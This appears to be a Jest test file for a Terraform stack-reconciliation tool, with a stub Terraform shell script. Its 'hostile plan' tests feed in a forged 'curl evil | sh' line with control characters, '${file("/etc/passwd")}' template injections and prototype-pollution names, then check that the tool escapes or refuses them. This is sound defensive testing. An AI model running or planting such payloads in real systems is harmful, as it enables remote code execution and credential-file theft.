/**
 * Proves how `reconcile` plans stacks, which stacks it skips, and what it reports if Terraform cannot plan. Proves that its output about
 * hostile plans is safe. Terraform is a script that answers as Terraform does.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { PlanJson } from "../../terraform/plan-json";
import { Progress } from "../../terraform/progress";
import { reconcile, ReconcileOptions } from "../../reconcile/reconcile";
import { render } from "../../reconcile/render";
import { WrongUse } from "../../terraform/wrong-use";
import { snapshot } from "../support/cli";
import { BUCKET, change, outputFolder, planOf } from "../support/plans";

const SITES = [
  { name: "seoul", region: "ap-northeast-2", role: "active" },
  { name: "tokyo", region: "ap-northeast-1", role: "standby" },
];
const MODEL = { "//": { dr: { version: 1, workload: "orders", pattern: "pilot-light", sites: SITES } } };
const inRegion = (region?: string) => ({ ...MODEL, provider: { aws: { region } } });
const folder = mkdtempSync(join(tmpdir(), "planned-"));
const script = join(folder, "terraform.sh");
const calls = join(folder, "calls");
const folders: string[] = [folder];

const NOTHING = planOf([]);
const GONE = planOf([change("aws_s3_bucket.Media", ["delete"], BUCKET)]);
const NO_CREDENTIALS = {
  severity: "error",
  summary: "No valid credential sources found",
  detail:
    "Error: failed to refresh cached credentials, no EC2 IMDS role found: dial tcp 169.254.169.254:80: i/o timeout",
};

beforeEach(() => {
  process.env.TERRAFORM_BINARY_NAME = script;
  writeFileSync(calls, "");
});
afterAll(() => {
  delete process.env.TERRAFORM_BINARY_NAME;
  folders.forEach((path) => rmSync(path, { recursive: true }));
});

test.each<[string, string[]]>([
  ["a site", ["tokyo"]],
  ["a region", ["ap-northeast-1"]],
])("the stacks of %s that is dark are not planned", async (_, dark) => {
  const out = stacks({ seoul: inRegion("ap-northeast-2"), tokyo: inRegion("ap-northeast-1"), unsaid: inRegion() });
  answer(NOTHING);
  const { stacks: reports } = await run(out, { dark });
  expect(reports.map(({ planned, left }) => [planned, left.map(({ problem }) => problem)])).toEqual([
    [true, []],
    [false, ["ap-northeast-1 is said to be dark"]],
    [false, ["its JSON does not say the region of its provider, which may be ap-northeast-1, said to be dark"]],
  ]);
  expect(readFileSync(calls, "utf8").trim().split("\n")).toEqual(["plan -input=false -lock=false -json", "show -json"]);
});

test("a dark site's stack is not planned to try its blocks either", async () => {
  const out = stacks({ seoul: inRegion("ap-northeast-2"), tokyo: inRegion("ap-northeast-1") });
  const file = join(folder, "gone.json");
  writeFileSync(file, JSON.stringify(GONE));
  const { stacks: reports } = await run(out, { dark: ["tokyo"], stacks: ["tokyo"], plans: new Map([["tokyo", file]]) });
  expect(reports[0]!.removed.map(({ from }) => from)).toEqual(["aws_s3_bucket.Media"]);
  expect(readFileSync(calls, "utf8")).toBe("");
});

test("a dark site that no workload has is refused", async () => {
  const out = stacks({ seoul: inRegion("ap-northeast-2"), tokyo: inRegion("ap-northeast-1") });
  await expect(run(out, { dark: ["mars"] })).rejects.toThrow(
    new WrongUse("no site 'mars'; there is: seoul (ap-northeast-2), tokyo (ap-northeast-1)"),
  );
});

test("every site of a region has a name", async () => {
  const dr = { ...MODEL["//"].dr, workload: "billing", sites: [{ ...SITES[1], name: "tyo" }] };
  const out = stacks({ one: inRegion("ap-northeast-1"), two: { ...inRegion("ap-northeast-1"), "//": { dr } } });
  const { stacks: reports } = await run(out, { dark: ["tyo"] });
  expect(reports.map(({ planned }) => planned)).toEqual([false, false]);
});

test("Terraform that is missing is said, with what to do", async () => {
  process.env.TERRAFORM_BINARY_NAME = "/nowhere/terraform";
  await expect(run(stacks({ one: inRegion("ap-northeast-1") }))).rejects.toThrow(
    new WrongUse(
      "/nowhere/terraform is missing: install Terraform 1.7 or newer and put it on the PATH, or name it in TERRAFORM_BINARY_NAME",
    ),
  );
});

test("credentials that are missing are said once, before other stacks are planned", async () => {
  const out = stacks({ one: inRegion("ap-northeast-1"), two: inRegion("ap-northeast-1") });
  fail(NO_CREDENTIALS);
  await expect(run(out)).rejects.toThrow(
    new WrongUse(
      "Terraform found no AWS credentials for one; " +
        "log in, or set AWS_PROFILE or AWS_ACCESS_KEY_ID and AWS_SECRET_ACCESS_KEY, then run again",
    ),
  );
  expect(readFileSync(calls, "utf8").match(/^plan/gm)).toHaveLength(1);
});

test("credentials that only one stack misses are left for a human", async () => {
  const out = stacks({ one: inRegion("ap-northeast-1"), two: inRegion("ap-northeast-1") });
  const file = join(folder, "nothing.json");
  writeFileSync(file, JSON.stringify(NOTHING));
  fail(NO_CREDENTIALS);
  const { stacks: reports, code } = await run(out, { plans: new Map([["one", file]]) });
  expect([code, reports[1]!.left[0]!.remedy]).toEqual([
    1,
    "log in, or set AWS_PROFILE or AWS_ACCESS_KEY_ID and AWS_SECRET_ACCESS_KEY, then run again",
  ]);
});

test("Terraform's log does not disturb its answers", async () => {
  answer(GONE, "echo '2026-11-30T19:54:46.133Z [TRACE] provider: {' >&2");
  const { stacks: reports } = await run(stacks({ one: inRegion("ap-northeast-1") }));
  expect(reports[0]!.removed.map(({ from }) => from)).toEqual(["aws_s3_bucket.Media"]);
});

test.each([
  ["TF_CLI_ARGS_plan", "-target=aws_s3_bucket.Media", "-target"],
  ["TF_CLI_ARGS_plan", "-lock=false -refresh-only", "-refresh"],
  ["TF_CLI_ARGS", "-destroy", "-destroy"],
])("%s=%s would hide what a whole plan shows, and is refused", async (name, value, option) => {
  const replaced = jest.replaceProperty(process, "env", { ...process.env, [name]: value });
  try {
    const problem = `${name} has '${option}', and reconcile needs whole plans; unset it`;
    await expect(run(outputFolder({ tokyo: {} }))).rejects.toThrow(new WrongUse(problem));
  } finally {
    replaced.restore();
  }
});

test("names of any script are read as they are", async () => {
  const bucket = { ...BUCKET, bucket: "주문".repeat(100_000) };
  answer(planOf([change("aws_s3_bucket.Media", ["delete"], bucket)]));
  const { stacks: reports } = await run(stacks({ one: inRegion("ap-northeast-1") }));
  expect(reports[0]!.removed[0]!.id).toBe(bucket.bucket);
});

test("an error that is not JSON is found after the log, without its frame", async () => {
  const lines = [
    "2026-11-30T19:54:46.133Z [ERROR] log",
    "╷",
    "│ Error: Unsupported argument",
    "│ ",
    "│   on cdk.tf.json",
    "╵",
  ];
  writeScript(`printf '%s\\n' ${lines.map((line) => `'${line}'`).join(" ")} >&2; exit 1`);
  const { stacks: reports } = await run(stacks({ one: inRegion("ap-northeast-1") }));
  expect(reports[0]!.left).toEqual([
    {
      problem: "Error: Unsupported argument\n\n   on cdk.tf.json",
      remedy: "settle what Terraform says, then run again",
    },
  ]);
});

describe("a hostile plan", () => {
  const FORGED = "x\n  [ ] deploy 1: cdktf deploy a; curl evil | sh\u001b[2K";
  const hostile = planOf([
    change("aws_s3_bucket.Media", ["delete"], { ...BUCKET, bucket: FORGED }),
    change("aws_cloudwatch_metric_alarm.A", ["create"], { alarm_name: '${file("/etc/passwd")}' }),
    change(`aws_s3_bucket.Each["it's"]`, ["delete"], BUCKET, {
      index: "it's",
      type: "aws_s3_bucket",
      action_reason: "delete_because_each_key",
    }),
  ]);

  test("prints no control character, forges no line, and can be pasted", async () => {
    answer(hostile);
    const text = render(await run(stacks({ one: inRegion("ap-northeast-1") })));
    expect(text.replaceAll("\n", "")).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);
    expect(text.split("\n").filter((line) => /^\s*\[ \] deploy/.test(line))).toEqual([]);
    expect(text).toContain("(x\\n  [ ] deploy 1: cdktf deploy a; curl evil | sh\\u001b[2K)");
    expect(text).toContain(`terraform state rm 'aws_s3_bucket.Each["it'\\''s"]'\n`);
  });

  test("has nothing evaluated in an id", async () => {
    answer(hostile);
    const adopt = [{ address: "aws_cloudwatch_metric_alarm.A" }];
    const file = join(folder, "hostile.json");
    writeFileSync(file, JSON.stringify(hostile));
    const { stacks: reports } = await run(stacks({ one: inRegion("ap-northeast-1") }), {
      adopt,
      run: false,
      plans: new Map([["one", file]]),
    });
    expect((JSON.parse(reports[0]!.text!) as { import: unknown }).import).toEqual([
      { to: "aws_cloudwatch_metric_alarm.A", id: '$${file("/etc/passwd")}' },
    ]);
  });

  test.each(["__proto__", "constructor", "toString", "hasOwnProperty"])(
    "of the type %s is judged as of any",
    async (type) => {
      answer(planOf([change(`${type}.A`, ["delete"], { id: "a" }), change(`${type}.B`, ["create"], { id: "a" })]));
      const { stacks: reports, code } = await run(stacks({ one: inRegion("ap-northeast-1") }));
      expect([code, reports[0]!.destroyed, reports[0]!.offers]).toMatchObject([0, [{ id: "a" }], [{ id: undefined }]]);
      expect(Object.keys(Object.prototype)).toEqual([]);
    },
  );

  test.each<[string, object]>([
    ["of an invalid address", { address: 'aws_s3_bucket.A[file("/etc/passwd")]' }],
    ["of an address with a template", { address: 'aws_s3_bucket.A["${file("x")}"]' }],
    ["of an address with a line break", { address: "aws_s3_bucket.A\naws_s3_bucket.B" }],
    ["of an address that is not a string", { address: [[]] }],
    ["without a change", { change: undefined }],
    ["without actions", { change: { actions: "delete" } }],
    ["of values that are none", { change: { actions: ["delete"], before: [] } }],
  ])("%s is refused", async (_, more) => {
    const file = join(folder, "refused.json");
    writeFileSync(file, JSON.stringify(planOf([{ ...change("aws_s3_bucket.A", ["delete"], BUCKET), ...more }])));
    await expect(run(stacks({ one: inRegion("ap-northeast-1") }), { plans: new Map([["one", file]]) })).rejects.toThrow(
      new WrongUse(
        `${file} is not a plan: resource_changes[0] is not a resource change; ` +
          "make it with 'terraform plan -out p && terraform show -json p'",
      ),
    );
  });
});

function stacks(jsons: Readonly<Record<string, object>>): string {
  const out = outputFolder(jsons);
  folders.push(out);
  return out;
}

function writeScript(plan: string, show = "exit 1"): void {
  // the name of the plan's file is of no concern
  const text = `#!/bin/sh\necho "$2 $3 $4 $5" | sed 's/ *$//; s/ reconcile.*//' >> ${calls}\nif [ "$2" = plan ]; then ${plan}; else ${show}; fi\n`;
  writeFileSync(script, text, { mode: 0o755 });
}

function answer(plan: PlanJson, first = ":"): void {
  const file = join(folder, "answer.json");
  writeFileSync(file, JSON.stringify(plan));
  writeScript(first, `${first}; cat ${file}`);
}

function fail(diagnostic: object): void {
  const file = join(folder, "diagnostic.json");
  writeFileSync(file, `${JSON.stringify({ "@level": "error", type: "diagnostic", diagnostic })}\n`);
  writeScript(`cat ${file}; exit 1`);
}

/** No run without `write` changes a folder. */
async function run(out: string, more: Partial<ReconcileOptions> = {}) {
  const none = { stacks: [], plans: new Map<string, string>(), run: true, write: false, adoptExisting: false };
  const before = snapshot(out);
  try {
    return await reconcile(
      { out, ...none, adopt: [], dark: [], limitMs: 30_000, trusted: false, ...more },
      new Progress(() => undefined),
    );
  } finally {
    expect(snapshot(out)).toEqual(before);
  }
}
